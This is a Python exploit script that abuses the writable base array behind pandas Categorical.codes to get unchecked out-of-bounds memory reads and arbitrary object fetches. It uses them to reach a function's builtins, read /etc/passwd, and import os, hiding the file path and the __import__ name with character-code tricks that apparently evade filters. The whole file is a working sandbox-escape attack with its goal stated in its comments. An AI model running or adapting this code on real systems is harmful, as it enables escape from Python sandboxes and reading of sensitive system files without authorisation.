# source: pandas Categorical.codes docs ("read-only view") + numpy ndarray.base; take_1d_* are cython boundscheck(False)
# family: memory safety - Categorical.codes.base is the writable _codes array (no setflags needed) -> unchecked take OOB read + addr->object fetch
# goal: builtins dict via func_builtins, frame-free code object, open() -> /etc/passwd, __import__ -> os
import numpy as np
import pandas as pd

N = 4400000
raw = np.arange(N, dtype=np.int64).tobytes()
ci = pd.Categorical.from_codes([0], categories=pd.Index(np.frombuffer(raw, dtype=np.int64)))
base = id(raw) + 32
wi = ci.codes.base


def rd(addr):
    wi[0] = (addr - base) // 8
    return int(np.asarray(ci)[0])


co = pd.Categorical.from_codes([0], categories=pd.Index(np.arange(N).astype(object), dtype=object))
obase = rd(id(co.categories.values) + 16)
wo = co.codes.base


def fetch(addr):
    wo[0] = (addr - obase) // 8
    return np.asarray(co)[0]


def f():
    return 0


b = fetch(id(f) + 24)
print("builtins dict:", type(b), len(b))
print("globals dict keys:", list(fetch(id(f) + 16))[:6])
print("code object:", fetch(id(f) + 48))
path = "".join(chr(c) for c in [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100])
print(b["open"](path).read()[:120])
u = chr(95) * 2
m = b[u + "import" + u]("o" + "s")
print(m, m.getuid())
